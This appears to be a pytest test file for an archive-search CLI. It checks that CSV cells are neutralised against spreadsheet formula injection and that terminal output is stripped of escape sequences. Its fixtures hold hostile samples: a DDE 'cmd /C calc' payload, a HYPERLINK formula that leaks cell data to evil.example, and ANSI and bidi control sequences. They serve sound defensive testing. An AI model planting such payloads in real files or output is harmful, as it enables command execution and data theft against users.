"""Search output against hostile content and a damaged archive: CSV cells a spreadsheet will not run
(OWASP), terminal output without escape sequences (JSON exact), and a clear word when the archive
under the index no longer verifies."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import orjson
import pytest

from rsemigrate.archive.reader import FileStore
from rsemigrate.archive.records import Channel, Record, User

from .conftest import Build, Cli, message

ESCAPES = "\x1b]0;pwned\x07\x1b[31mred\x1b[0m \u202eevil\u202c \x9b1m"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def hostile(files: FileStore) -> Iterator[Record]:
    yield User("u1", "@SUM(1+1)", "+cmd|' /C calc'!A0@example.com")
    yield User("u2", f"Mallory {ESCAPES}", None)
    yield Channel("c1", "channel", "-2+3 budget", group_id=None)
    yield message("m1", "c1", "u1", f"{FORMULA} budget", "2020-01-01")
    yield message("m2", "c1", "u2", f"budget {ESCAPES}", "2020-01-02")
    yield message("m3", "c1", "u2", "budget\tbut\rbenign", "2020-01-03", thread="m2", reply_to="m2")


@pytest.fixture
def archive(build: Build) -> Path:
    return build.archive(hostile)


def test_csv_cells_never_start_like_a_formula(archive: Path, cli: Cli) -> None:
    rows = list(csv.DictReader(io.StringIO(cli.ok("search", archive, "budget", "--format", "csv").stdout)))
    by_id = {row["message_id"]: row for row in rows}
    assert by_id["m1"]["snippet"] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"open\") [budget]"
    assert by_id["m1"]["author_name"] == "'@SUM(1+1)"
    assert by_id["m1"]["author_email"] == "'+cmd|' /C calc'!A0@example.com"
    assert {row["channel"] for row in rows} == {"'-2+3 budget"}
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row


def test_json_keeps_the_values_exactly(archive: Path, cli: Cli) -> None:
    hits = {h["message_id"]: h for h in cli.hits(archive, "budget")}
    assert hits["m1"]["author_name"] == "@SUM(1+1)" and hits["m1"]["channel"] == "-2+3 budget"
    assert hits["m1"]["snippet"].startswith(FORMULA)
    assert ESCAPES in hits["m2"]["snippet"] and ESCAPES in hits["m2"]["author_name"]


def test_hit_report_csv_neutralises_terms(archive: Path, cli: Cli, tmp_path: Path) -> None:
    terms = tmp_path / "terms.txt"
    terms.write_text("-annulé budget\nbudget\n", encoding="utf-8")
    rows = list(csv.reader(io.StringIO(cli.ok("hits", archive, "--terms", terms).stdout)))
    assert [row[1] for row in rows[1:]] == ["'-annulé budget", "budget"]
    assert rows[1][2] == "3"  # numbers stay numbers
    report = orjson.loads(cli.ok("hits", archive, "--terms", terms, "--format", "json").stdout)
    assert "-annulé budget" in orjson.dumps(report).decode()  # JSON exact


def _no_controls(text: str) -> None:
    for ch in "\x1b\x07\x9b\u202e\u202c\r":
        assert ch not in text, repr(ch)


def test_the_table_prints_no_control_characters(archive: Path, cli: Cli) -> None:
    out = cli.ok("search", archive, "budget").stdout
    _no_controls(out)
    assert "Mallory ]0;pwned[31mred[0m evil 1m  #-2+3 budget  id m3" in out


def test_thread_text_prints_no_control_characters_and_json_keeps_them(archive: Path, cli: Cli) -> None:
    text = cli.ok("thread", archive, "m3").stdout
    _no_controls(text)
    assert "Mallory ]0;pwned[31mred[0m evil 1m" in text
    data = orjson.loads(cli.ok("thread", archive, "m3", "--format", "json").stdout)
    assert data["root"]["text"] == f"budget {ESCAPES}" and data["root"]["author_name"] == f"Mallory {ESCAPES}"


def test_a_deleted_message_file_is_one_line_not_a_traceback(archive: Path, cli: Cli) -> None:
    (archive / "data" / "messages" / "00001.jsonl").unlink()
    result = cli.run("search", archive, "budget")
    assert result.exit_code == 2
    assert "data/messages/00001.jsonl: missing" in result.output and "Traceback" not in result.output
    assert result.output.count("\n") == 2  # the warning, then the error


def test_search_warns_when_the_archive_under_its_index_no_longer_verifies(archive: Path, cli: Cli) -> None:
    cli.ok("index", archive)
    assert "warning" not in cli.ok("search", archive, "budget").stderr
    (archive / "bag-info.txt").write_text("Bagging-Date: 1999-01-01\n", encoding="utf-8")
    result = cli.ok("search", archive, "budget")
    assert "warning: the archive changed since it was sealed (bag-info.txt changed)" in result.stderr
    (archive / "data" / "messages" / "00001.jsonl").unlink()
    result = cli.ok("search", archive, "budget")  # the index still answers…
    assert len(result.stdout.splitlines()) == 6
    assert "bag-info.txt changed; data/messages/00001.jsonl missing" in result.stderr  # …and warns
